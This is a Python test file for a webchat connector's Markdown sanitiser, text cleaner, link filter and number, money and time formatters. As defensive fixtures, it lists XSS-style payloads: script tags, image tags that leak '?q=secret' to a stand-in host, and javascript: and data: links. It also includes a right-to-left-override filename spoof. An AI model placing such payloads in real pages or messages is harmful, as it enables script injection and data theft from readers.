"""Pure pieces: Markdown, foreign text, numbers, moments."""

from datetime import UTC, datetime

import pytest
from markupsafe import Markup

from connectors.webchat import formats
from connectors.webchat.foreign import safe_link, seen, seen_line
from connectors.webchat.markdown import MarkdownStream, to_html
from memory.domain.cards import MoneyShown
from memory.domain.money import Money, Span

NOW = datetime(2026, 11, 20, 13, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=https://evil.test/?q=secret>",
        "![x](https://evil.test/?q=secret)",
        "[x](javascript:alert(1))",
        "<div hx-get='/stop' data-hx-post='/x' onclick='x()'>hi</div>",
        "[x](data:text/html;base64,AAAA)",
    ],
)
def test_markdown_never_becomes_active(hostile: str) -> None:
    html = to_html(f"before\n\n{hostile}\n\nafter")
    assert not any(sign in html for sign in ("<script", "<img", "<div", 'href="javascript', 'href="data'))


def test_markdown_keeps_what_an_answer_needs_and_its_headings_stay_below_the_page() -> None:
    html = to_html("# K7\n\n- **1** 已批准\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n[site](https://shop.example.com)")
    assert html == (
        "<h3>K7</h3>\n<ul>\n<li><strong>1</strong> 已批准</li>\n</ul>\n<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n"
        "</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n"
        '<p><a href="https://shop.example.com" rel="noopener noreferrer nofollow">site</a></p>\n'
    )


def test_a_stream_renders_each_finished_block_once_and_ends_with_the_whole_text() -> None:
    text = "找到 **20 位**。\n\n- 一\n- 二\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n最后一段"
    stream, blocks = MarkdownStream(), []
    for sign in text:
        blocks += stream.add(sign)
    assert Markup().join(blocks) + stream.tail_html() == to_html(text)
    assert len(blocks) == 3


@pytest.mark.parametrize(
    ("foreign", "shown"),
    [
        ("exe\u202egnp.doc", "exegnp.doc"),
        ("a\x00b\x1b[31mc", "ab[31mc"),
        ("hi\U000e0041\U000e0042 there", "hi there"),
        ("zero\u200bwidth\ufeff", "zerowidth"),
        ("family 👩\u200d👧 stays", "family 👩\u200d👧 stays"),
        ("one\r\n\r\n\r\n\r\ntwo", "one\n\ntwo"),
        ("مرحبا", "مرحبا"),
    ],
)
def test_unseen_characters_go_and_letters_stay(foreign: str, shown: str) -> None:
    assert seen(foreign) == shown


def test_a_name_is_one_line_and_a_link_is_a_web_address() -> None:
    assert seen_line(" Mia\n\tBiscuit ") == "Mia Biscuit"
    assert safe_link("https://tiktok.example.com/@mia") == "https://tiktok.example.com/@mia"
    assert [safe_link(bad) for bad in ("javascript:alert(1)", "data:x", "//evil.test", None, "https://")] == [None] * 5


@pytest.mark.parametrize(
    ("value", "zh", "en"),
    [
        (0, "0", "0"),
        (3200, "3,200", "3.2K"),
        (48_200, "4.8万", "48.2K"),
        (1_286_000, "129万", "1.3M"),
        (312_000_000, "3.1亿", "312M"),
    ],
)
def test_counts_are_short(value: int, zh: str, en: str) -> None:
    assert (formats.compact(value, "zh"), formats.compact(value, "en")) == (zh, en)


def test_money_shows_its_currency_and_range_and_unknown_stays_unknown() -> None:
    assert formats.money(MoneyShown(low=587_000, high=1_174_000, currency="USD"), "zh") == "$5,870–1.2万"
    assert formats.money(Money(3990, "GBP"), "en") == "£39.90"
    assert formats.money(Money(1200, "JPY"), "en") == "JP¥1,200"
    assert formats.money(None, "zh") is None


def test_shares_and_spans() -> None:
    assert (formats.percent(1800), formats.percent(345), formats.percent(None)) == ("18%", "3.45%", None)
    assert formats.percent_span(Span(1000, 1500)) == "10%–15%"
    assert formats.compact_span((10_000, 30_000), "zh") == "1万–3万"


def test_a_moment_reads_on_both_clocks() -> None:
    at = datetime(2026, 11, 20, 16, 19, tzinfo=UTC)
    assert formats.moment(at, "Asia/Shanghai", "zh", now=NOW) == "明天 00:19"
    assert formats.moment(at, "America/New_York", "en", now=NOW) == "today 11:19"
    assert formats.moment(at, "America/New_York", "en") == "Fri 20 Nov 11:19"
    assert formats.day(at, "America/New_York", "zh") == "11月20日 周五"
